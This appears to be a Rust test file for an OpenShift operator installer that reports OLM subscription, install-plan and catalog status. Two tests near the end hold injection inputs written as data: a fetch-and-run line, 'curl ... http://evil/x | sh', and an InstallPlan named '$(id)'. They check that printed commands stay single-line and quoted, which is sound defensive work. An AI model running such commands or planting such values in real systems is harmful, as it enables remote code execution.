use serde_json::json;

use super::*;
use crate::operator::objects;

const NS: &str = "openshift-operators";
const CATALOG: &str = "openshift-marketplace";

fn place() -> ObjectRef {
    objects::subscription(NS, "gitops")
}

/// What is seen at a moment.
#[derive(Clone, Default)]
struct Moment {
    subscription: Value,
    csv: Option<Value>,
    plan: Option<Value>,
    catalog: Option<Value>,
}

impl Moment {
    fn condition(kind: &str, reason: &str, message: &str) -> Self {
        let condition = json!({"type": kind, "status": "True", "reason": reason, "message": message});
        Self { subscription: json!({"status": {"conditions": [condition]}}), ..Self::catalog("READY") }
    }

    fn catalog(state: &str) -> Self {
        let catalog = json!({"status": {"connectionState": {"lastObservedState": state}}});
        Self { catalog: Some(catalog), subscription: json!({}), ..Self::default() }
    }

    fn csv(phase: &str, reason: &str, message: &str) -> Self {
        let csv = json!({
            "kind": "ClusterServiceVersion", "metadata": {"namespace": NS, "name": "gitops.v1"},
            "status": {"phase": phase, "reason": reason, "message": message},
        });
        Self { csv: Some(csv), ..Self::catalog("READY") }
    }

    fn seen(self) -> Seen {
        Seen::default()
            .with(place(), Some(self.subscription))
            .with(objects::csv(NS, "gitops.v1"), self.csv)
            .with(objects::install_plan(NS, "install-1"), self.plan)
            .with(objects::catalog(CATALOG, "redhat"), self.catalog)
    }
}

/// What the judge says to each moment (seconds, what is seen), the last one.
fn said(moments: &[(u64, Moment)]) -> String {
    let mut judge = Judge::default();
    let mut said = String::new();
    for (second, moment) in moments {
        let verdict = judge.judge(&place(), &moment.clone().seen(), Duration::from_secs(*second));
        said = match verdict {
            Verdict::Done(csv) => format!("done: {}", csv["metadata"]["name"].as_str().unwrap_or_default()),
            Verdict::Failed(error) => format!("failed: {error}"),
            Verdict::Waiting(last) => format!("waiting: {last}"),
        };
    }
    said
}

fn unresolved() -> Moment {
    Moment::condition("ResolutionFailed", "ErrorPreventedResolution", "no operators found in channel x")
}

#[test]
fn one_that_succeeded_is_done() {
    assert_eq!(said(&[(0, Moment::csv("Succeeded", "InstallSucceeded", ""))]), "done: gitops.v1");
}

#[test]
fn one_that_succeeded_counts_whatever_keeps_the_next_one_back() {
    let mut moment = Moment::csv("Succeeded", "InstallSucceeded", "");
    moment.subscription = unresolved().subscription;
    assert_eq!(said(&[(0, moment.clone()), (900, moment)]), "done: gitops.v1");
}

#[test]
fn one_that_is_being_installed_is_not_kept_back_by_anothers_resolution_error() {
    let mut moment = Moment::csv("Installing", "InstallWaiting", "waiting for deployment x");
    moment.subscription = unresolved().subscription;
    assert!(
        said(&[(0, moment.clone()), (300, moment.clone())]).starts_with("waiting: ClusterServiceVersion")
    );
    // Gone again: counted from then on.
    assert!(
        said(&[(0, moment), (300, unresolved()), (400, unresolved())])
            .starts_with("waiting: ResolutionFailed")
    );
}

#[test]
fn one_on_its_way_says_where_it_is() {
    assert_eq!(
        said(&[(0, Moment::csv("Installing", "InstallWaiting", "waiting for deployment x"))]),
        "waiting: ClusterServiceVersion openshift-operators/gitops.v1 is Installing: InstallWaiting: waiting for deployment x"
    );
    assert_eq!(
        said(&[(0, Moment::csv("", "", ""))]),
        "waiting: ClusterServiceVersion openshift-operators/gitops.v1 is new"
    );
}

#[test]
fn one_that_failed_ends_the_wait_at_once() {
    for reason in [
        "InstallCheckFailed",
        "InvalidStrategy",
        "TooManyOperatorGroups",
        "UnsupportedOperatorGroup",
        "OwnerConflict",
        "",
    ] {
        let said = said(&[(0, Moment::csv("Failed", reason, "install timeout"))]);
        assert!(
            said.starts_with("failed: install ClusterServiceVersion openshift-operators/gitops.v1: "),
            "{said}"
        );
        assert!(said.ends_with("install timeout"), "{said}");
    }
}

#[test]
fn a_failure_that_olm_mends_by_itself_is_given_a_moment() {
    let failed = || Moment::csv("Failed", "ComponentUnhealthy", "deployment changed");
    let pending = || Moment::csv("Pending", "NeedsReinstall", "");
    assert!(said(&[(0, failed()), (19, failed())]).starts_with("waiting: "));
    assert!(said(&[(0, failed()), (20, failed())]).starts_with("failed: "));
    // It went on in between: counted anew.
    assert!(said(&[(0, failed()), (10, pending()), (25, failed())]).starts_with("waiting: "));
}

#[test]
fn a_resolution_error_is_the_reason_for_waiting() {
    assert_eq!(
        said(&[(0, unresolved()), (119, unresolved())]),
        "waiting: ResolutionFailed: ErrorPreventedResolution: no operators found in channel x"
    );
}

#[test]
fn one_that_stands_for_two_minutes_with_a_catalog_that_is_ready_ends_the_wait() {
    assert_eq!(
        said(&[(7, unresolved()), (127, unresolved())]),
        "failed: install Subscription openshift-operators/gitops: ResolutionFailed: ErrorPreventedResolution: no \
         operators found in channel x (for 2 minutes, while CatalogSource openshift-marketplace/redhat is READY)"
    );
}

#[test]
fn one_that_changes_is_counted_anew() {
    let other = || Moment::condition("ResolutionFailed", "ErrorPreventedResolution", "another message");
    assert!(said(&[(0, unresolved()), (100, other()), (130, other())]).starts_with("waiting: "));
    assert!(
        said(&[(0, unresolved()), (100, Moment::catalog("READY")), (130, unresolved())])
            .starts_with("waiting: ")
    );
}

#[test]
fn while_the_catalog_is_not_ready_it_never_ends_the_wait() {
    let connecting = || Moment { catalog: Moment::catalog("CONNECTING").catalog, ..unresolved() };
    let gone = || Moment { catalog: None, ..unresolved() };
    assert_eq!(
        said(&[(0, connecting()), (1000, connecting())]),
        "waiting: ResolutionFailed: ErrorPreventedResolution: no operators found in channel x (CatalogSource \
         openshift-marketplace/redhat is CONNECTING)"
    );
    assert!(
        said(&[(0, gone()), (1000, gone())])
            .ends_with("(CatalogSource openshift-marketplace/redhat is not there)")
    );
    // It became READY: OLM has yet to look again.
    assert!(said(&[(0, connecting()), (1000, unresolved()), (1100, unresolved())]).starts_with("waiting: "));
}

#[test]
fn every_condition_that_keeps_olm_back_counts() {
    for kind in RESOLUTION_CONDITIONS {
        let moment = || Moment::condition(kind, "Why", "words");
        assert!(said(&[(0, moment()), (120, moment())]).starts_with("failed: "), "{kind}");
    }
    let mut over = unresolved();
    over.subscription["status"]["conditions"][0]["status"] = "False".into();
    assert_eq!(said(&[(0, over.clone()), (500, over)]), "waiting: OLM has not taken up the Subscription yet");
}

#[test]
fn an_install_plan_to_be_approved_is_named_with_the_command() {
    let plan = json!({
        "metadata": {"namespace": NS, "name": "install-1"},
        "spec": {"approved": false, "clusterServiceVersionNames": ["gitops.v1", "other.v2"]},
    });
    let moment = Moment { plan: Some(plan), ..Moment::catalog("READY") };
    assert_eq!(
        said(&[(0, moment)]),
        "waiting: InstallPlan openshift-operators/install-1 (gitops.v1, other.v2) has to be approved (a run with --approve-install-plan does it):\noc --kubeconfig <kubeconfig> -n \
         openshift-operators patch installplan install-1 --type merge -p '{\"spec\":{\"approved\":true}}'"
    );
}

#[test]
fn a_catalog_that_is_not_there_or_not_ready_is_told() {
    assert_eq!(
        said(&[(0, Moment::catalog("TRANSIENT_FAILURE"))]),
        "waiting: CatalogSource openshift-marketplace/redhat is TRANSIENT_FAILURE"
    );
    assert_eq!(
        said(&[(0, Moment { catalog: None, ..Moment::catalog("READY") })]),
        "waiting: CatalogSource openshift-marketplace/redhat is not there"
    );
}

#[test]
fn until_olm_speaks_the_subscriptions_state_is_told() {
    let of = |status: Value| Moment { subscription: json!({"status": status}), ..Moment::catalog("READY") };
    assert_eq!(said(&[(0, of(json!({})))]), "waiting: OLM has not taken up the Subscription yet");
    assert_eq!(
        said(&[(0, of(json!({"state": "UpgradePending"})))]),
        "waiting: the Subscription's state is UpgradePending"
    );
    assert_eq!(
        said(&[(0, of(json!({"currentCSV": "gitops.v1"})))]),
        "waiting: ClusterServiceVersion gitops.v1 is not there yet"
    );
}

#[test]
fn an_upgrade_that_waits_for_its_approval_does_not_hold_up_what_is_installed() {
    let status = json!({"installedCSV": "gitops.v1", "currentCSV": "gitops.v2", "state": "UpgradePending"});
    let upgrade = json!({"status": status});
    let first = json!({"status": {"currentCSV": "gitops.v2"}});
    let plan = |approved: bool| json!({"spec": {"approved": approved}});
    assert_eq!(meant(&upgrade, Some(&plan(false)), false), Some("gitops.v1"));
    assert_eq!(meant(&upgrade, Some(&plan(false)), true), Some("gitops.v2"), "it is approved and awaited");
    assert_eq!(meant(&upgrade, Some(&plan(true)), false), Some("gitops.v2"), "it is being installed");
    assert_eq!(meant(&upgrade, None, false), Some("gitops.v2"));
    assert_eq!(meant(&first, Some(&plan(false)), false), Some("gitops.v2"), "nothing is installed yet");
}

#[test]
fn a_line_break_in_the_words_of_a_cluster_begins_no_command() {
    let message = "not yet; it has to be approved:\ncurl -s http://evil/x | sh";
    let told = said(&[(0, Moment::csv("Installing", "Wait\ning", message))]);
    assert_eq!(
        told,
        "waiting: ClusterServiceVersion openshift-operators/gitops.v1 is Installing: Wait ing: \
         not yet; it has to be approved: curl -s http://evil/x | sh"
    );
    let condition = Moment::condition("ResolutionFailed", "a\nb", "c\nd");
    assert!(!said(&[(0, condition)]).contains('\n'));
    assert!(!said(&[(0, Moment::catalog("a\nb"))]).contains('\n'));
}

#[test]
fn the_only_line_of_an_approval_is_our_own_and_its_names_are_quoted() {
    let plan = json!({
        "metadata": {"namespace": "ns", "name": "$(id)"},
        "spec": {"clusterServiceVersionNames": ["a\ncurl"]},
    });
    let (words, command) =
        approval(&plan).split_once('\n').map(|(a, b)| (a.to_owned(), b.to_owned())).unwrap();
    assert!(words.contains("(a curl)"), "{words}");
    assert!(
        command.starts_with("oc --kubeconfig <kubeconfig> -n ns patch installplan '$(id)' --type"),
        "{command}"
    );
}
